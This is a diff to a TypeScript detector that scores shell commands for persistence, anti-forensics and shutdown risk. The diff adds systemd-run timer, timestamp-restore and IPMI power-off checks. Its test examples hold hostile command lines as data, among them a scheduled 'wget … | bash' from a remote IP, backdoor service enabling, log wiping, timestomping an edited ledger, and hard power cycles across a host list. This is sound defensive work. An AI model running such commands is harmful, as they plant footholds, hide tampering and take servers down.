@@ -1145,6 +1145,8 @@ function authorizedKeysFinding(ctx: CommandContext): Finding | null {
 const unitStem = (u: string): string => baseName(u).toLowerCase().replace(/\.(?:service|timer|socket|path|target)$/, '');
 const KNOWN_UNITS = /^(?:nginx|apache2|httpd|docker|containerd|postgresql(?:@.{1,20})?|mysql|mysqld|mariadb|redis(?:-server)?|mongod|sshd?|cron|crond|ufw|fail2ban|kubelet|php[0-9.]{0,4}-fpm|grafana-server|prometheus|node_exporter|prometheus-[a-z][a-z-]{1,30}|[a-z][a-z0-9]{1,20}[-_]exporter|caddy|tailscaled|networkmanager|chronyd|ntp|ntpd|systemd-timesyncd|firewalld|snapd|cups|bluetooth|avahi-daemon|rabbitmq-server|elasticsearch|kibana|jenkins|gitlab-runner|nfs-server|smbd|memcached|haproxy|supervisor|libvirtd|zerotier-one|wg-quick@.{1,20}|getty@.{1,20}|nvidia-persistenced|podman|minio|vault|consul|nomad|k3s|rke2-server|rke2-agent|auditd|apparmor|clamav-daemon|clamav-freshclam|unattended-upgrades|certbot\.timer|certbot-renew\.timer|snap\.certbot\.renew\.timer|logrotate\.timer|apt-daily(?:-upgrade)?\.timer|man-db\.timer|dnf-makecache\.timer|fstrim\.timer|systemd-resolved|rsyslog|atd|gdm|lightdm|sddm|ollama|code-server|netdata|telegraf|influxdb|mosquitto|cockpit\.socket|tuned|irqbalance|multipathd|iscsid|open-iscsi|zfs.{0,30}|mdmonitor|smartd|lvm2-monitor|sysstat|acpid|udisks2|upower|power-profiles-daemon|thermald|ssh\.socket|docker\.socket|containerd\.service|nginx\.service|docker\.service)(?:\.service)?$/i;
 const AUTOSTART_DIR = /^\/etc\/systemd\/system\/|^\/(?:usr\/)?lib\/systemd\/system\/|\/\.config\/systemd\/user\/|^\/etc\/init\.d\/|^\/etc\/rc\.local$|^\/etc\/rc[0-6s]?\.d\/|\/library\/launch(?:agents|daemons)\/|\/\.config\/autostart\/|^\/etc\/xdg\/autostart\/|^\/etc\/update-motd\.d\/|^\/etc\/init\/|\/start menu\/programs\/startup\/|^\/etc\/network\/if-(?:pre-up|up|down|post-down)\.d\/|^\/etc\/udev\/rules\.d\/|^\/etc\/apt\/apt\.conf\.d\//i;
+/** systemd-run's options that make the unit a recurring timer (--on-active alone fires once). */
+const TIMER_FLAG = /--on-(?:calendar|boot|startup|unit-active|unit-inactive)\b/;
 const SERVICE_TOOLS = new Set(['systemctl', 'launchctl', 'schtasks', 'register-scheduledtask', 'new-scheduledtasktrigger', 'new-service', 'sc', 'reg', 'new-itemproperty', 'set-itemproperty', 'update-rc.d', 'chkconfig']);
 /** macOS login/logout hooks: a script run as root at every login. */
 function loginHookFinding(ctx: CommandContext): Finding | null {
@@ -1164,7 +1166,14 @@ function serviceFinding(ctx: CommandContext): Finding | null {
   const rewritten = new Set<string>();
   for (const w of ctx.writes) if (AUTOSTART_DIR.test(w.info.path)) rewritten.add(unitStem(w.info.path));
   for (const c of ctx.cmds) if (c.name === 'systemctl' && c.args.includes('edit')) for (const u of positional(c)) if (u !== 'edit') rewritten.add(unitStem(u));
+  // a transient timer (systemd-run --on-calendar …) runs its command on a schedule from now on
+  const timer = ctx.lower.includes('systemd-run') && TIMER_FLAG.test(ctx.norm);
   for (const c of ctx.cmds) {
+    if (timer && c.wrappers.includes('systemd-run')) {
+      // code fetched and run on every tick is a foothold, as a cron job's is; a timer of a local script is upkeep (the
+      // line itself is read, not judged again as a startup line: that check would read this timer once more)
+      if (MALICIOUS_CONTENT.test(ctx.norm)) keep({ detail: `systemd-run timer runs ${c.name} on a schedule, fetching and running network or shell code`, score: 10 });
+    }
     if (!SERVICE_TOOLS.has(c.name)) continue;
     const a = c.args.map((x) => x.toLowerCase());
     if (c.name === 'systemctl' && a.includes('enable')) {
@@ -1641,6 +1650,18 @@ const TIMESTOMP_TARGET = /^\/(?:usr\/)?(?:s?bin|lib(?:32|64|exec)?)\/|^\/etc\/|^
 /** Commands that keep a copy of the files they are given (an archive, a compressed copy, a copy elsewhere). */
 const KEEPS_COPY: ReadonlySet<string> = new Set(['tar', 'zip', '7z', '7za', 'gzip', 'bzip2', 'xz', 'zstd', 'cp', 'rsync', 'scp']);
 
+/** Programs that edit a file in place with -i ("sed -i", "perl -pi -e"). */
+const IN_PLACE_EDITORS: ReadonlySet<string> = new Set(['sed', 'gsed', 'perl', 'ruby']);
+
+/** Whether a command of the line edits `path` in place or writes it through a redirection. */
+function editedOnLine(ctx: CommandContext, path: string): boolean {
+  for (const c of ctx.cmds) {
+    if (!IN_PLACE_EDITORS.has(c.name) || !c.args.some((x) => x.startsWith('-') && !x.startsWith('--') && x.includes('i'))) continue;
+    if (c.args.some((x) => !x.startsWith('-') && pathInfo(x, c.cwd).path === path)) return true;
+  }
+  return ctx.lower.includes('>') && ctx.writes.some((w) => w.info.path === path);
+}
+
 function antiForensicsFinding(ctx: CommandContext): Finding | null {
   let b: Finding | null = null;
   const keep = (f: Finding): void => { if (b === null || (f.score ?? 0) > (b.score ?? 0)) b = f; };
@@ -1679,7 +1700,10 @@ function antiForensicsFinding(ctx: CommandContext): Finding | null {
       const ref = a.findIndex((x) => x === '-r' || x === '-d' || x === '-t');
       const targets = a.filter((x, i) => !x.startsWith('-') && i !== ref + 1);
       const t = targets.find((x) => TIMESTOMP_TARGET.test(pathInfo(x, c.cwd).path));
+      // the file is edited on the same line and its old times put back: the change is made to look as if it never happened
+      const edited = t === undefined ? targets.find((x) => editedOnLine(ctx, pathInfo(x, c.cwd).path)) : undefined;
       if (t) keep({ detail: `touch forges the timestamps of ${t}`, score: 5 });
+      else if (edited !== undefined) keep({ detail: `${edited} edited and its timestamps put back (touch ${a[ref]})`, score: 7 });
       else if (a[ref] === '-r' && targets.length > 0 && STD_SHELL_PATH.test(pathInfo(a[ref + 1] ?? '', c.cwd).path)) keep({ detail: `touch copies the timestamps of ${a[ref + 1]} onto ${targets[0]}`, score: 5 });
     }
     if (c.name === 'clear-eventlog' || c.name === 'remove-eventlog') keep({ detail: `${c.name} clears Windows event logs`, score: 8 });
@@ -1942,6 +1966,7 @@ const FORCED_STOP = new Set(['-f', '--force', '-ff', '-n', '--no-sync', '-force'
 const SHUTDOWN_NAMES = new Set(['shutdown', 'reboot', 'halt', 'poweroff', 'stop-computer', 'restart-computer', 'init', 'telinit', 'systemctl']);
 function shutdownFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
+    if (BMC_TOOLS.has(c.name)) return bmcPowerFinding(ctx, c);
     // 'init' is a keyword of every `git init`: decide on the name before lower-casing arguments
     if (!SHUTDOWN_NAMES.has(c.name)) return null;
     const a = c.args.map((x) => x.toLowerCase());
@@ -1957,6 +1982,24 @@ function shutdownFinding(ctx: CommandContext): Finding | null {
     const what = `${c.name} ${a.join(' ')}`.trim() + (forced ? ' (forced: skips the orderly stop)' : '') + (ctx.env === 'prod' ? ' on production' : '');
     return { detail: what, score: forced ? prodBump(ctx, 4, 7, 3) : prodBump(ctx, 2, 6, 2) };
   });
+}
+
+/** Tools that drive a server's power through its management controller (IPMI, iDRAC, iLO). */
+const BMC_TOOLS: ReadonlySet<string> = new Set(['ipmitool', 'ipmipower', 'racadm']);
+/** Their hard power actions: the host is cut like a pulled plug, no orderly stop ("chassis power soft" is the orderly one). */
+const BMC_HARD = /^(?:off|cycle|reset|--off|--cycle|--reset|powerdown|hardreset|powercycle)$/;
+/** The line repeats the command over many hosts (a loop, a host list fed to xargs or parallel, pdsh). */
+const MANY_HOSTS = /\bfor \w{1,20} in\b|\bwhile read\b|\bxargs\b|\bparallel\b|\bpdsh\b|\bseq\b|\{\d{1,4}\.\.\d{1,4}\}/;
+
+/** A hard power-off, cycle or reset through a server's management controller; worse over many hosts or on production. */
+function bmcPowerFinding(ctx: CommandContext, c: Cmd): Finding | null {
+  const a = c.args.map((x) => x.toLowerCase());
+  const power = c.name === 'racadm' ? a.includes('serveraction') : c.name === 'ipmipower' || a.includes('power');
+  const act = a.find((x) => BMC_HARD.test(x));
+  if (!power || act === undefined || has(c, '--help', '-h')) return null;
+  const many = MANY_HOSTS.test(ctx.norm);
+  const what = `${c.name} hard power ${act.replace(/^--/, '')}${many ? ' over many hosts' : ''}${ctx.env === 'prod' ? ' on production' : ''}`;
+  return { detail: what, score: many ? prodBump(ctx, 7, 8, 4) : prodBump(ctx, 4, 7, 3) };
 }
 
 const PKG_MANAGERS = new Set(['pip', 'pip3', 'uv', 'pipx', 'poetry', 'npm', 'pnpm', 'yarn', 'bun', 'gem', 'easy_install']);
@@ -2833,8 +2876,10 @@ const rules: Rule[] = [
     keywords: ['systemd', 'systemctl', 'launchctl', 'launchagents', 'launchdaemons', 'rc.local', 'init.d', 'schtasks', 'scheduledtask', 'currentversion', 'autostart', 'update-rc.d', 'chkconfig', 'new-service', 'sc ', 'rc', 'motd', 'loginhook', 'logouthook', 'if-up.d', 'if-pre-up.d', 'udev/rules.d', 'apt.conf.d'],
     detect: (ctx) => serviceFinding(ctx) ?? loginHookFinding(ctx),
     examples: {
-      flag: ['sudo tee /etc/systemd/system/updater.service < unit.txt && sudo systemctl enable --now updater', 'systemctl enable backdoor.service', 'launchctl load ~/Library/LaunchAgents/com.update.plist', 'schtasks /create /sc onlogon /tn upd /tr C:\\Users\\Public\\u.exe', 'echo "/tmp/.x &" >> /etc/rc.local', 'echo \'APT::Update::Pre-Invoke {"nohup /tmp/.u &"};\' > /etc/apt/apt.conf.d/99local'],
-      pass: ['sudo systemctl enable --now nginx', 'sudo systemctl enable --now prometheus-node-exporter.service', 'sudo systemctl restart nginx', 'systemctl status docker', 'launchctl list', 'sudo systemctl enable --now certbot-renew.timer'],
+      flag: ['sudo tee /etc/systemd/system/updater.service < unit.txt && sudo systemctl enable --now updater', 'systemctl enable backdoor.service', 'launchctl load ~/Library/LaunchAgents/com.update.plist', 'schtasks /create /sc onlogon /tn upd /tr C:\\Users\\Public\\u.exe', 'echo "/tmp/.x &" >> /etc/rc.local', 'echo \'APT::Update::Pre-Invoke {"nohup /tmp/.u &"};\' > /etc/apt/apt.conf.d/99local',
+        "systemd-run --user --on-calendar='*:0/15' /bin/sh -c 'wget -qO- http://198.51.100.9/a | bash'"],
+      pass: ['sudo systemctl enable --now nginx', 'sudo systemctl enable --now prometheus-node-exporter.service', 'sudo systemctl restart nginx', 'systemctl status docker', 'launchctl list', 'sudo systemctl enable --now certbot-renew.timer',
+        'systemd-run --user --scope -p MemoryMax=2G make -j4', 'systemd-run --on-active=30 systemctl restart nginx', 'systemd-run --user --on-calendar=daily /usr/local/bin/backup-notes.sh'],
     },
   },
   {
@@ -2908,10 +2953,13 @@ const rules: Rule[] = [
     keywords: ['history', 'histfile', 'histsize', 'histfilesize', 'histcontrol', '/var/log', 'wevtutil', 'eventlog', 'journalctl', 'utmp', 'wtmp', 'lastlog', 'btmp', 'psreadline', 'cipher', 'fsutil', 'touch'],
     detect: antiForensicsFinding,
     examples: {
-      flag: ['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'rm -f ~/.bash_history', 'rm -rf /var/log/*', 'cat /dev/null > /var/log/auth.log', 'wevtutil cl Security', 'truncate -s 0 /var/log/secure', 'echo > /var/log/nginx/access.log', 'rm -f /var/log/*.gz', 'truncate -s 0 /var/log/*.log'],
+      flag: ['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'rm -f ~/.bash_history', 'rm -rf /var/log/*', 'cat /dev/null > /var/log/auth.log', 'wevtutil cl Security', 'truncate -s 0 /var/log/secure', 'echo > /var/log/nginx/access.log', 'rm -f /var/log/*.gz', 'truncate -s 0 /var/log/*.log',
+        "touch -r data/ledger.csv /tmp/t0 && sed -i 's/;4711;/;0;/' data/ledger.csv && touch -r /tmp/t0 data/ledger.csv"],
       pass: ['history | tail -20', 'tail -f /var/log/syslog', 'journalctl -u nginx --since today', 'echo $HISTFILE', 'sudo journalctl --vacuum-size=500M', 'truncate -s 0 /var/log/myapp/app.log', ': > /var/log/worker/worker.log',
         // rotated logs archived first, then removed: the records are kept
-        'tar -czf /backup/syslog-week.tgz /var/log/syslog.1 && rm /var/log/syslog.1'],
+        'tar -czf /backup/syslog-week.tgz /var/log/syslog.1 && rm /var/log/syslog.1',
+        // times copied onto a file nobody edited (a build keeping its sources' dates)
+        'touch -r src/main.c build/main.o', "sed -i 's/v1/v2/' notes.txt && touch -r notes.txt notes.bak"],
     },
   },
   {
@@ -2952,11 +3000,13 @@ const rules: Rule[] = [
   },
   {
     id: 'C31', name: 'System shutdown or reboot', primitive: 'DESTRUCTION', score: 4,
-    keywords: ['shutdown', 'reboot', 'halt', 'poweroff', 'init', 'stop-computer', 'restart-computer', 'systemctl'],
+    keywords: ['shutdown', 'reboot', 'halt', 'poweroff', 'init', 'stop-computer', 'restart-computer', 'systemctl', 'ipmitool', 'ipmipower', 'racadm'],
     detect: shutdownFinding,
     examples: {
-      flag: ['sudo shutdown -h now', 'reboot', 'sudo systemctl poweroff', 'init 0', { value: 'sudo reboot', metadata: { environment: 'production' } }, 'reboot -f', 'sudo systemctl reboot --force --force', 'shutdown /r /f /t 0', 'Restart-Computer -Force'],
-      pass: ['shutdown -c', 'sudo systemctl restart nginx', 'last reboot', 'docker restart web', 'systemctl soft-reboot --when cancel'],
+      flag: ['sudo shutdown -h now', 'reboot', 'sudo systemctl poweroff', 'init 0', { value: 'sudo reboot', metadata: { environment: 'production' } }, 'reboot -f', 'sudo systemctl reboot --force --force', 'shutdown /r /f /t 0', 'Restart-Computer -Force',
+        'for h in $(cat hosts.txt); do ipmitool -I lanplus -H $h -U admin -E chassis power cycle; done', 'racadm -r 10.8.1.20 -u root -p x serveraction powerdown'],
+      pass: ['shutdown -c', 'sudo systemctl restart nginx', 'last reboot', 'docker restart web', 'systemctl soft-reboot --when cancel',
+        'ipmitool -I lanplus -H bmc07 -U admin -E chassis power status', 'for h in $(cat hosts.txt); do ipmitool -H $h -U admin -E sdr list; done', 'racadm getsysinfo'],
     },
   },
   {
